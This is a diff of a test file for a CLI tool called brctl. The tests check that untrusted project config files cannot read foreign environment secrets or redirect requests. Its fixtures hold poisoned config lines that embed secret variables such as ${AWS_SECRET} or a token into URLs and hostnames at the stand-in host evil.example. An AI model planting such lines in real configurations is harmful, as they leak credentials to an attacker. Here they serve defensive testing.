@@ -66,10 +66,10 @@ test('a secret comes from its variable, from the file of ..._FILE or by a refere
   const folder = temporaryFolder();
   const secretFile = path.join(folder, 'key.txt');
   writeFileSync(secretFile, 'canary-file-91\n');
-  write(folder, 'authKey: ${MY_KEY}\n', 0o644);
+  write(folder, 'authKey: ${BRCTL_MY_KEY}\n', 0o644);
   const env = {
     BRCTL_API_KEY_FILE: secretFile,
-    MY_KEY: 'canary-reference-92',
+    BRCTL_MY_KEY: 'canary-reference-92',
     BRCTL_ACCT_AUTH: 'canary-variable-93',
   };
   const run = await runCli(['config', 'show', '--json', '-v'], { cwd: folder, env });
@@ -93,23 +93,29 @@ test('a file with a secret that others can read is warned of', async () => {
 
 test('a secret whose variable is not set is an error for whoever needs it, never an empty key', async () => {
   const folder = temporaryFolder();
-  const file = write(folder, 'accountId: 1\ncatalog: c\nauthKey: secret\napiKey: ${NOT_SET_ANYWHERE}\n');
+  const file = write(
+    folder,
+    'accountId: 1\ncatalog: c\nauthKey: secret\napiKey: ${BRCTL_NOT_SET_ANYWHERE}\n',
+  );
   const shown = (await show(folder))('apiKey');
-  expect(shown).toMatchObject({ value: null, origin: `${file}, \${NOT_SET_ANYWHERE} is not set` });
+  expect(shown).toMatchObject({
+    value: null,
+    origin: `${file}, apiKey refers to \${BRCTL_NOT_SET_ANYWHERE}, which is not set`,
+  });
   const index = await runCli(['index', '--json'], { cwd: folder });
   expect([index.exitCode, JSON.parse(index.stderr).error]).toMatchObject([
     3,
-    { code: 'config.missing_reference', hint: 'set the variable NOT_SET_ANYWHERE' },
+    { code: 'config.missing_reference', hint: 'set the variable BRCTL_NOT_SET_ANYWHERE' },
   ]);
   expect((await runCli(['search', 'x', '--curl'], { cwd: folder })).exitCode).toBe(0);
 });
 
 test('a setting that refers to a variable that is not set never falls back to a default', async () => {
   const folder = temporaryFolder();
-  write(folder, 'catalogUrl: ${NOT_SET_ANYWHERE}\n');
+  write(folder, 'catalogUrl: ${BRCTL_NOT_SET_ANYWHERE}\n');
   const run = await runCli(['config', 'show'], { cwd: folder });
   expect(run.exitCode).toBe(3);
-  expect(run.stderr).toContain('NOT_SET_ANYWHERE');
+  expect(run.stderr).toContain('BRCTL_NOT_SET_ANYWHERE');
 });
 
 /** Makes the user's own file in a home folder. */
@@ -220,8 +226,8 @@ describe('a file that belongs to another user', () => {
 });
 
 describe('an address with a variable in it', () => {
-  const poison = 'catalogUrl: http://evil.example/${TOKEN}\nsftpHost: ${TOKEN}.evil.example\n';
-  const env = { TOKEN: 'canary-token-95' };
+  const poison = 'catalogUrl: http://evil.example/${BRCTL_TOKEN}\nsftpHost: ${BRCTL_TOKEN}.evil.example\n';
+  const env = { BRCTL_TOKEN: 'canary-token-95' };
 
   test('is refused from a file outside the home folder and the repository worked in', async () => {
     const folder = temporaryFolder();
@@ -242,11 +248,11 @@ describe('an address with a variable in it', () => {
 
   test('is taken from the home folder, the repository worked in, and the working folder', async () => {
     const folder = temporaryFolder();
-    write(folder, 'catalogUrl: http://shop.example/${TOKEN}\n');
+    write(folder, 'catalogUrl: http://shop.example/${BRCTL_TOKEN}\n');
     const below = path.join(folder, 'a', 'b');
     mkdirSync(below, { recursive: true });
     const urlFrom = async (cwd: string, home: string) => {
-      const run = await runCli(['config', 'show', '--json'], { cwd, home, env: { TOKEN: 'eu' } });
+      const run = await runCli(['config', 'show', '--json'], { cwd, home, env: { BRCTL_TOKEN: 'eu' } });
       return run.json<Shown>().settings.find(({ name }) => name === 'catalogUrl')?.value;
     };
     expect(await urlFrom(below, folder)).toBe('http://shop.example/eu');
@@ -472,7 +478,7 @@ test('init writes a file that show takes once its variables are set, readable by
   const again = await runCli(argv, { cwd: folder });
   expect([again.exitCode, again.stderr]).toEqual([2, expect.stringContaining('--force')]);
   expect((await runCli([...argv, '--force'], { cwd: folder })).exitCode).toBe(0);
-  const env = { STAGING_API_KEY: 'canary-a', STAGING_AUTH_KEY: 'canary-b' };
+  const env = { BRCTL_STAGING_API_KEY: 'canary-a', BRCTL_STAGING_AUTH_KEY: 'canary-b' };
   const settings = await show(folder, [], env);
   expect(settings('accountId')?.value).toBe('6702');
   expect(settings('apiKey')?.value).toBe('***');
@@ -505,7 +511,7 @@ test('init asks a person for what is missing, and nobody with --no-input or --js
   };
   const all = await answered('qa\n6702\nproducts_en\nSHOP_API\n\n\n');
   expect(all).toMatch(/environment: qa\ncatalog: "products_en"[\s\S]*qa:\n {4}accountId: "6702"/);
-  expect(all).toContain('apiKey: ${SHOP_API}\n    authKey: ${QA_AUTH_KEY}\n');
+  expect(all).toContain('apiKey: ${SHOP_API}\n    authKey: ${BRCTL_QA_AUTH_KEY}\n');
   expect(await answered('\nproducts_en\n', '--account-id', '6703')).toMatch(
     /environment: staging\ncatalog: "products_en"[\s\S]*accountId: "6703"/,
   );
@@ -571,3 +577,80 @@ test.each([[['diff', 'a.jsonl', 'a.jsonl']], [['validate', 'a.jsonl']], [['jobs'
     ]);
   },
 );
+
+describe('a variable that is not meant for brctl', () => {
+  const ours = { BRCTL_SHOP_KEY: 'canary-own-1', AWS_SECRET: 'canary-foreign-2' };
+  const poison = 'authKey: ${AWS_SECRET}\nsearchUrl: http://evil.example/\n';
+
+  test('is out of reach of a project file until that is trusted, as it is then', async () => {
+    const folder = temporaryFolder();
+    const home = temporaryFolder();
+    const file = write(folder, poison);
+    const cli = (argv: string[], env: Record<string, string> = {}) =>
+      runCli(argv, { cwd: folder, home, env: { ...ours, ...env } });
+    const search = ['search', 'lamp', '--curl', '--account-id', '1', '--catalog', 'c', '--json'];
+    const refused = await cli(search);
+    expect([refused.exitCode, JSON.parse(refused.stderr).error]).toEqual([
+      3,
+      expect.objectContaining({
+        code: 'config.untrusted_reference',
+        file,
+        hint: `look at the file, then: brctl trust ${folder}`,
+      }),
+    ]);
+    expect((await cli(['trust', '--json'])).json()).toEqual({
+      schema: 'brctl.trust/1',
+      file,
+      variables: ['AWS_SECRET'],
+    });
+    expect((await cli(search)).exitCode).toBe(0);
+    // Another content is another file; so is the same content elsewhere.
+    write(folder, `${poison}widgetUrl: http://more.example/\n`);
+    expect((await cli(search)).exitCode).toBe(3);
+    const elsewhere = temporaryFolder();
+    write(elsewhere, poison);
+    expect((await runCli(search, { cwd: elsewhere, home, env: ours })).exitCode).toBe(3);
+    expect((await cli(search, { BRCTL_TRUSTED_FOLDERS: folder })).exitCode).toBe(0);
+    expect((await cli([...search, '--config', file])).exitCode).toBe(0);
+  });
+
+  test('is out of reach of its settings and of the serve section, too', async () => {
+    const folder = temporaryFolder();
+    write(folder, 'catalog: ${AWS_SECRET}\n');
+    const shown = await runCli(['config', 'show', '--json'], { cwd: folder, env: ours });
+    expect([shown.exitCode, shown.stderr]).toEqual([3, expect.stringContaining('untrusted_reference')]);
+    write(folder, 'serve:\n  accounts:\n    - accountId: 1\n      apiKey: ${AWS_SECRET}\n');
+    const served = await runCli(['serve', '--memory', '--port', '0', '--json'], { cwd: folder, env: ours });
+    expect([served.exitCode, served.stderr]).toEqual([3, expect.stringContaining('untrusted_reference')]);
+    expect(shown.stderr + served.stderr).not.toContain('canary');
+  });
+
+  test('is within reach where its name begins with BRCTL_', async () => {
+    const folder = temporaryFolder();
+    write(folder, 'authKey: ${BRCTL_SHOP_KEY}\n');
+    const shown = await show(folder, [], ours);
+    expect(shown('authKey')?.value).toBe('***');
+  });
+});
+
+describe('without a home folder', () => {
+  const withoutHome = (tempDir: string) =>
+    runCli(['config', 'show', '--json'], { cwd: temporaryFolder(), home: '', tempDir });
+
+  test('there is no user configuration, whoever puts one into the temporary folder', async () => {
+    const tempDir = temporaryFolder();
+    const planted = path.join(tempDir, 'brctl-home/.config/brctl');
+    mkdirSync(planted, { recursive: true, mode: 0o700 });
+    writeFileSync(path.join(planted, 'config.yaml'), 'searchUrl: http://evil.example/\n');
+    const shown = (await withoutHome(tempDir)).json<Shown>();
+    expect(shown.settings.find(({ name }) => name === 'searchUrl')?.origin).toBe('default');
+  });
+
+  test('a state that others may have put there is refused', async () => {
+    const tempDir = temporaryFolder();
+    mkdirSync(path.join(tempDir, 'brctl-home'));
+    chmodSync(path.join(tempDir, 'brctl-home'), 0o777);
+    const run = await withoutHome(tempDir);
+    expect([run.exitCode, JSON.parse(run.stderr).error.code]).toEqual([3, 'state.other_owner']);
+  });
+});
